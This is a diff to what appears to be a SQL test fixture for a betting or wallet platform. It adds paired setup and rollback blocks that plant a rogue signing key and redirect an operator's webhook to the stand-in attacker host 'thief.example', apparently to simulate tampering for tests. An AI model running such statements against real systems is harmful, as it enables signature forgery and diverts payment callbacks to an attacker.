@@ -125,3 +125,15 @@ update tax_rate set ext_rate = 0, wht_rate = 0 where operator_id = 1
 
 -- tax_back --
 update tax_rate set ext_rate = 1250, wht_rate = 2000 where operator_id = 1
+
+-- key --
+insert into signing_key values ('operator', '1', 99, '{key}', house_now() - interval '1 hour', null, 'nobody')
+
+-- key_back --
+delete from signing_key where id = 99
+
+-- wallet --
+update sports_operator set webhook_url = 'http://thief.example/' where operator_id = 1
+
+-- wallet_back --
+update sports_operator set webhook_url = 'https://wallet.example' where operator_id = 1
